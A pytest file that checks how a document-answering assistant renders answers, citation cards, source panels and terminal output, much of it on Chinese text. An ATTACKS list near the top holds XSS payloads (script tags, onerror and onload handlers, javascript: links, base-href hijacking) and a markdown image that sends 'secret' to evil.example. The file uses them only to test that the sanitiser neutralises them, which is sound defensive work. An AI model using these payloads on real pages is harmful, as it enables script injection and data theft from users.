"""An Answer becomes safe, readable fragments: for a page, for a terminal, for the source panel."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from fakes_assistant import COMPARED, DOCUMENTS, HOW_MANY, REFUSED, cite
from hypothesis import given
from hypothesis import strategies as st

from assistant.answer import Answer, Citation, Row, Table
from ui import markdown, terminal
from ui.format import answer_html, card_html, content_id, date_label, label, named_cells
from ui.format_source import source_html
from ui.format_text import answer_text
from vectorstore.document import Block, Document

TAGS = {
    "a", "br", "button", "details", "div", "h3", "h4", "header", "li", "mark", "ol", "p", "span", "strong",
    "summary", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "aria-label", "class", "colspan", "data-cite", "data-copy", "data-label", "data-more", "data-turn",
    "href", "id", "rel", "start", "target", "title", "type",
}  # fmt: skip
ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[点这里](javascript:alert(1))",
    "![](https://evil.example/leak.png?q=secret)",
    "[公告](https://evil.example/)",
    '"><svg onload=alert(1)>',
    "| <iframe src=//evil.example> | 1 |\n|---|---|\n| <b onclick=x()> | [1](javascript:x) |",
    "<a href='//evil.example' class=cite data-cite=1>1</a>",
    "# <style>*{display:none}</style>\n- <base href=//evil.example>",
    "\\<img src=x>\\[1]",
)


class Inventory(HTMLParser):
    """Collects what a browser would see as markup."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name == "href"}

    def handle_data(self, data: str) -> None:
        self.text += data


def hostile(text: str) -> tuple[str, str]:
    """An answer and a source panel in which every field of a document holds `text`."""
    citation = Citation(
        marker=1, document=text, document_id="d", title=text, publisher=text, section=text, quote=text,
        start=0, end=len(text), page=2,
    )  # fmt: skip
    answer = Answer(
        text=f"{text}[1]", question=text, citations=(citation,), notes=(text,),
        table=Table(columns=(text,), rows=(Row(cells=(text,), markers=(1,)),)),
    )  # fmt: skip
    document = Document(id="d", name=text, text=text, title=text, publisher=text, number=text, published=text)
    return answer_html(answer, turn=1), source_html(document, citation)


def assert_harmless(html: str) -> None:
    seen = Inventory(html)
    assert seen.tags <= TAGS
    assert seen.attributes <= ATTRIBUTES
    assert all(link.startswith(("#", "/api/v1/documents/d/original")) for link in seen.links)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hostile_document_renders_as_text(attack: str) -> None:
    for html in hostile(attack):
        assert_harmless(html)


@given(st.text(alphabet=st.sampled_from("<>\"'&|[]()*#-\\!`1\n\t 中:/="), max_size=80))
def test_no_text_becomes_markup_outside_the_allow_list(text: str) -> None:
    for html in hostile(text):
        assert_harmless(html)


def test_an_attack_stays_readable() -> None:
    html, _ = hostile(ATTACKS[0])
    assert ATTACKS[0] in Inventory(html).text


def test_a_marker_links_to_its_card() -> None:
    html = answer_html(HOW_MANY, turn=3)
    assert 'href="#cite-3-1"' in html
    assert 'id="cite-3-1"' in html
    assert "<strong>34个</strong>" in html


def test_a_marker_without_a_citation_stays_text() -> None:
    html = answer_html(replace(HOW_MANY, text="34个[1]，另有[7]"), turn=1)
    assert "cite-1-7" not in html
    assert "另有[7]" in html


def test_the_question_as_understood_shows_only_when_it_differs() -> None:
    assert "理解为：云溪区2025年一季度" in answer_html(HOW_MANY, turn=1, asked="云溪区呢？")
    assert "理解为" not in answer_html(HOW_MANY, turn=1, asked=HOW_MANY.question)


def test_the_width_of_a_question_mark_is_no_difference() -> None:
    asked = HOW_MANY.question.rstrip("?？")
    assert "理解为" not in answer_html(HOW_MANY, turn=1, asked=f"{asked}？")
    assert "理解为" not in answer_html(HOW_MANY, turn=1, asked=f"{asked}?")


def test_a_note_that_closes_the_text_is_shown_once() -> None:
    answer = replace(HOW_MANY, text=f"{HOW_MANY.text}\n\n（目标值）", notes=("目标值",))
    assert Inventory(answer_html(answer, turn=1)).text.count("目标值") == 1
    assert answer_text(answer).count("目标值") == 1


def test_a_card_names_title_publisher_date_and_quote() -> None:
    text = Inventory(answer_html(HOW_MANY, turn=1)).text
    for piece in ("江州各区抓招商抢项目", "江州日报 · 2025年4月18日", "云溪区签约亿元以上项目34个"):
        assert piece in text


def test_an_inferred_date_is_called_inferred() -> None:
    answer = replace(HOW_MANY, citations=(cite(1, DOCUMENTS[1], "230个以上"),))
    assert "2025年（推断） · 第1页" in Inventory(answer_html(answer, turn=1, inferred={"d2": "2025"})).text
    assert "日期不详 · 第1页" in Inventory(answer_html(answer, turn=1)).text


@pytest.mark.parametrize(
    ("published", "inferred", "shown"),
    [
        ("2025-04-08", False, "2025年4月8日"),
        ("2025-04", True, "2025年4月（推断）"),
        ("2025", True, "2025年（推断）"),
        ("", False, "日期不详"),
        ("二〇二五年春", False, "二〇二五年春"),
    ],
)
def test_dates_read_as_chinese(published: str, inferred: bool, shown: str) -> None:
    assert date_label(published, inferred=inferred) == shown


def test_a_table_in_the_text_is_not_shown_twice() -> None:
    html = answer_html(COMPARED, turn=1)
    assert html.count("<table") == 1
    assert '<td data-label="项目数" class="number">49个 <a class="cite"' in html
    assert "全市目标为230个以上，口径不同。" in html


def test_a_table_beside_the_text_is_shown_with_its_sources() -> None:
    html = answer_html(replace(COMPARED, text="东湖区最多。[1]"), turn=1)
    assert html.count("<table") == 1
    assert "<th>来源</th>" in html


def test_many_citations_fold() -> None:
    citations = tuple(replace(HOW_MANY.citations[0], marker=marker) for marker in range(1, 10))
    html = answer_html(replace(HOW_MANY, citations=citations), turn=1)
    assert "其余 5 条来源" in html
    assert html.count('class="card"') == 9


def test_labels_tell_extract_from_model() -> None:
    worded = replace(HOW_MANY, worded_by="model")
    assert label(HOW_MANY) == "原文摘录"
    assert label(worded) == f"AI生成 · 编号 {content_id(worded)}"
    assert label(worded) in answer_html(worded, turn=1)
    assert content_id(worded) != content_id(replace(worded, text="35个"))


def test_the_source_panel_marks_the_passage_in_its_surroundings() -> None:
    html = source_html(DOCUMENTS[0], HOW_MANY.citations[0])
    assert "<mark>云溪区签约亿元以上项目34个，总投资152.66亿元</mark>，比去年同期增加9个。" in html
    assert "<h4>加快“走出去、请进来”，江州各区抓招商</h4>" in html
    assert "&lt;b onclick=alert(1)&gt;某某" in html
    assert "展开全文" not in html


def test_a_passage_in_a_table_is_marked_in_its_cell() -> None:
    html = source_html(DOCUMENTS[0], cite(1, DOCUMENTS[0], "210.5亿元"))
    assert "<td>东湖区</td><td>49</td><td><mark>210.5亿元</mark></td>" in html


def test_a_remark_under_a_table_spans_it_and_short_rows_are_filled() -> None:
    text = "区\t数\t额\n东湖区\t49\n说明：初步统计"
    document = Document(
        id="d", name="a.csv", text=text, blocks=(Block(kind="table", start=0, end=len(text)),)
    )
    html = source_html(document, cite(1, document, "初步统计"))
    assert "<tr><td>东湖区</td><td>49</td><td></td></tr>" in html
    assert '<td colspan="3">说明：<mark>初步统计</mark></td>' in html


def test_a_row_of_a_pipe_table_is_marked_cell_by_cell() -> None:
    text = "| 区 | 数 |\n|---|---|\n| 东湖区 | 49 |"
    document = Document(id="d", name="a.md", text=text, blocks=(Block(kind="table", start=0, end=len(text)),))
    html = source_html(document, cite(1, document, "| 东湖区 | 49 |"))
    assert "<mark>东湖区 </mark>" in html
    assert "<mark> 49</mark>" in html
    assert "---" not in html


def test_a_long_document_is_cut_around_the_passage() -> None:
    text = "\n".join(f"第{number}段，讲的是别的事情。" for number in range(2_000))
    document = Document(id="d", name="长.txt", text=text)
    citation = cite(1, document, "第1000段")
    html = source_html(document, citation)
    assert "前文略" in html
    assert "后文略" in html
    assert len(Inventory(html).text) < 4_000
    assert "第0段" in source_html(document, citation, window_chars=60_000)


def test_a_passage_over_two_paragraphs_is_marked_in_both() -> None:
    document = Document(id="d", name="a.txt", text="甲乙丙\n\n丁戊己")
    html = source_html(document, cite(1, document, "丙\n\n丁"))
    assert "<p>甲乙<mark>丙</mark></p><p><mark>丁</mark>戊己</p>" in html


def test_a_moved_passage_is_found_and_a_vanished_one_is_told() -> None:
    moved = replace(DOCUMENTS[0], text="（更新）" + DOCUMENTS[0].text, blocks=())
    assert "<mark>云溪区签约亿元以上项目34个" in source_html(moved, HOW_MANY.citations[0])
    gone = replace(DOCUMENTS[0], text="全文已撤。", blocks=())
    assert "已找不到" in source_html(gone, HOW_MANY.citations[0])


def test_the_terminal_lists_numbered_sources_under_the_text() -> None:
    assert answer_text(HOW_MANY) == (
        "34个，总投资152.66亿元。[1]\n\n"
        "来源（原文摘录）\n"
        "[1] 江州各区抓招商抢项目 · 江州日报 · 2025年4月18日\n"
        "    “云溪区签约亿元以上项目34个，总投资152.66亿元”"
    )
    assert answer_text(REFUSED) == "资料中没有天气信息。"


def test_terminal_tables_line_up_in_columns() -> None:
    lines = answer_text(COMPARED).splitlines()
    rows = [line for line in lines if "区" in line and "个 [" in line]
    assert len({terminal.width(row.split("个")[0]) for row in rows}) == 1
    assert "说明：全市目标为230个以上，口径不同。" in lines


@pytest.mark.parametrize(
    ("text", "columns"), [("abc", 3), ("招答", 4), ("ＡＢ", 4), ("e\u0301", 1), ("“34”个", 6)]
)
def test_width_counts_columns(text: str, columns: int) -> None:
    assert terminal.width(text) == columns


def test_clipping_never_splits_a_wide_character() -> None:
    assert terminal.clip("招商引资工作", 8) == "招商引…"
    assert terminal.width(terminal.clip("招商引资工作", 8)) <= 8


def test_lists_keep_their_numbers() -> None:
    text = "主要做法：\n1. 驻点招商 [1]\n2. 基金招商 [1]\n- 其他"
    parts = markdown.parse(text)
    assert [type(part).__name__ for part in parts] == ["Paragraph", "Items", "Items"]
    assert '<ol start="1"><li>驻点招商 ' in answer_html(replace(HOW_MANY, text=text), turn=1)


def test_the_cells_of_a_quoted_row_stand_behind_their_names() -> None:
    plain = cite(1, DOCUMENTS[0], "云溪区\t34\t152.66亿元")
    row = replace(plain, columns=("区", "项目数", "总投资"))
    assert named_cells(row) == "区：云溪区；项目数：34；总投资：152.66亿元"
    assert "项目数：34" in card_html(row, turn=1)
    assert not named_cells(plain)
